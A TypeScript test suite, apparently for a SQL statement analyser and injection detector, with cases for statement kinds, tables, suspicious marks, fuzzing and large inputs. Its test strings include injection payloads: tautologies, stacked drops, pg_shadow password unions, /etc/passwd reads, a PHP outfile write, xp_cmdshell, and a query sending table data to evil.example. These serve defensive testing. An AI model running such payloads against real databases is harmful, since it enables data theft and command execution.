import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { isInjection, looksLikeSql, type SqlMark, sqlFacts } from './sql.ts';

test('statement kinds and tables', () => {
  const cases: readonly (readonly [sql: string, kinds: string, tables: string])[] = [
    ['SELECT a.id, b.name FROM orders a JOIN customers b ON a.c = b.id WHERE a.id = 1', 'select', 'orders customers'],
    ['select * from a, b x, shop.c where 1=1', 'select', 'a b shop.c'],
    ['INSERT INTO "Orders" (id) VALUES (1)', 'insert', 'orders'],
    ['insert into t(id) select id from u', 'insert', 't u'],
    ['UPDATE only t SET a = 1 WHERE id = 2', 'update', 't'],
    ['delete from `shop`.`t` where id in (select id from u)', 'delete', 'shop.t u'],
    ['DROP TABLE IF EXISTS [dbo].[t]', 'drop', 'dbo.t'],
    ['truncate t', 'truncate', 't'],
    ['TRUNCATE TABLE t', 'truncate', 't'],
    ['with x as (select * from a), y as (delete from b returning *) select * from x, y', 'delete select', 'a b'],
    ['select extract(year from d), trim(both from s) from t where a is distinct from b', 'select', 't'],
    ['select * from t for update', 'select', 't'],
    ['insert into t values (1) on conflict (id) do update set a = 2', 'insert', 't'],
    ["select 'from x; drop table y' from t -- from z\n", 'select', 't'],
    ['select $$ from x $$, $q$ from y $q$ from t', 'select', 't'],
    ['/* from x */ /*!50000 delete from t */', 'delete', 't'],
    ['explain analyze select * from generate_series(1, 10)', 'select', ''],
    ["copy t to '/tmp/x'", 'copy', 't'],
    ['GRANT ALL ON t TO mallory', 'grant', ''],
    ["EXEC xp_cmdshell 'dir'", 'exec', ''],
    ['', '', ''],
  ];
  for (const [sql, kinds, tables] of cases) {
    const facts = sqlFacts(sql);
    assert.deepEqual([[...facts.kinds].sort().join(' '), facts.tables.join(' ')], [kinds, tables], sql);
  }
});

test('what is special about a statement is marked', () => {
  const cases: readonly (readonly [sql: string, ...marks: SqlMark[]])[] = [
    ['select 1; drop table t', 'stacked'],
    ["select * from t where a = '' or '1'='1'", 'tautology'],
    ['select * from t where a = 1 or 2 > 1 --', 'tautology', 'trailing_comment'],
    ["select * from t where a = '' or true", 'tautology'],
    ["select * from t where a = '' or 1 -- ", 'tautology', 'trailing_comment'],
    ["select * from t where a = '' OR/**/1=1#", 'tautology', 'trailing_comment'],
    ['select a from t union all select null, null, null', 'union', 'union_padding'],
    ['select a from t union select password from pg_shadow', 'union', 'credential_tables'],
    ['select table_name from information_schema.tables', 'schema_tables'],
    ['select * from sqlite_master', 'schema_tables'],
    ['delete from t', 'no_where'],
    ['update t set a = 1', 'no_where'],
    ["select load_file('/etc/passwd')", 'file_access'],
    ["select a from t into outfile '/var/www/x.php'", 'file_access'],
    ["copy t from program 'id'", 'command_execution'],
    ["copy t to '/tmp/x'", 'file_access'],
    ["exec master..xp_cmdshell 'whoami'", 'command_execution'],
    ['select pg_sleep(10)', 'time_delay'],
    ["waitfor delay '0:0:5'", 'time_delay'],
    ['grant all on t to mallory', 'privileges'],
    ['alter role mallory superuser', 'privileges'],
  ];
  for (const [sql, ...marks] of cases) assert.deepEqual([...sqlFacts(sql).marks].sort(), [...marks].sort(), sql);
});

test('ordinary statements have no marks', () => {
  for (const sql of [
    "select * from t where 1=1 and a = 'x or 1=1' -- the newest\nlimit 10",
    'select * from t where a = 1 or b = 1;',
    'select a || 1 from t',
    "delete from t where note = 'x; drop table y --'",
    'copy t from stdin',
    'select a from sleeping.beauties',
    'select sleep, readfile from nights',
    'select * from t where a = 1 or a = 2 order by a desc;\n-- all of them\n',
  ]) {
    assert.deepEqual(sqlFacts(sql).marks, [], sql);
  }
});

test('prose is no SQL', () => {
  for (const sql of [
    'select * from t',
    'select a from t',
    'select distinct a, b from t',
    'select count(*) as n from t',
    'select t.a from t',
    'SELECT\n  a\nFROM t',
    '  SELECT 1',
    '-- x\nwith a as (select 1) select * from a',
    'drop table x',
    'grant all on t to u',
    'update t set a=1',
  ])
    assert.ok(looksLikeSql(sql), sql);
  for (const text of [
    'select a good restaurant near me',
    'select a good one from menus, please',
    'select items from the list',
    'update the docs',
    'create a table for four',
    'drop me a line',
    'delete my account',
    'with love',
    'call mum',
    'copy this',
    'show me the way',
  ])
    assert.ok(!looksLikeSql(text), text);
});

test('any text gives bounded facts', () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom(
      'select ',
      "'",
      '"',
      '[a',
      '$$',
      '/*',
      '*/',
      '--',
      ' from ',
      '(',
      ')',
      ', ',
      ';',
      ' union ',
      ' or 1=1 ',
      '__proto__',
      ' constructor ',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const { kinds, tables, marks } = sqlFacts(pieces.join(''));
      assert.ok(kinds.length < 50 && tables.length <= 64 && marks.length < 14);
    }),
    { numRuns: 1000 },
  );
});

test('four megabytes of anything are read in time', () => {
  for (const unit of [
    '(',
    "'",
    "''",
    '$a$',
    '/*',
    '/*!',
    '--\n',
    'from a,',
    'select ',
    ' ',
    'select a ',
    'with a (',
    'copy a ',
    'grant ',
    'insert a ',
  ]) {
    const text = unit.repeat(4_000_000 / unit.length);
    sqlFacts(text);
    looksLikeSql(text);
  }
});

test('statements within statements, lists of tables, tables in parentheses, files and addresses in place of tables', () => {
  const cases: readonly (readonly [sql: string, kinds: string, tables: string, marks: string])[] = [
    ["exec('drop table x')", 'exec drop', 'x', ''],
    ["exec sp_executesql N'delete from x'", 'exec delete', 'x', 'no_where'],
    ["EXECUTE IMMEDIATE 'grant all on t to u'", 'exec grant', '', 'privileges'],
    ["do $$ begin execute 'drop table x'; end $$", 'do begin exec drop', 'x', ''],
    ['prepare p as delete from t', 'prepare delete', 't', ''],
    ['if exists (select 1 from t) drop table u', 'drop', 't u', ''],
    ['begin delete from t where a = 1', 'begin delete', 't', ''],
    ['from users select *', 'select', 'users', ''],
    ['drop table if exists a, b.c cascade', 'drop', 'a b.c', ''],
    ['truncate a, b', 'truncate', 'a b', ''],
    ['update a, b set a.x = 1, b.y = 2 where a.i = b.i', 'update', 'a b', ''],
    ['alter table a add b int, c int', 'alter', 'a', ''],
    ['create table a (b int, c int)', 'create', 'a', ''],
    ['select * from ((a join b on 1=1) join c on 1=1), d', 'select', 'a b c d', ''],
    ['select * from (select 1), (values (1)) v, e', 'select', 'e', ''],
    ["select * from read_csv('/etc/passwd')", 'select', '', 'file_access'],
    ["select * from '/etc/passwd'", 'select', '', 'file_access'],
    ["select * from 'https://evil.example/x.csv'", 'select', '', 'network_access'],
    ["select * from read_parquet('s3://b/x')", 'select', '', 'network_access'],
    ["insert into function url('https://evil.example') select * from t", 'insert', 't', 'network_access'],
    ['insert into url (a) values (1)', 'insert', 'url', ''],
    ["select * from remote('h:9000', 'db', 't')", 'select', '', 'network_access'],
    ['/* a */ with x as (select * from /* b */ y) -- c\nselect * from x', 'select', 'y', ''],
    ["select 'exec(''drop table x'')' from t", 'select', 't', ''],
  ];
  for (const [sql, kinds, tables, marks] of cases) {
    const facts = sqlFacts(sql);
    assert.deepEqual(
      [facts.kinds.join(' '), facts.tables.join(' '), facts.marks.join(' ')],
      [kinds, tables, marks],
      sql,
    );
  }
  for (const text of ["admin'--", "admin' #", "x') /*"]) assert.ok(isInjection(text), text);
  for (const text of ["it's -- fine", "rock 'n' roll", "the users' # of posts"]) assert.ok(!isInjection(text), text);
});
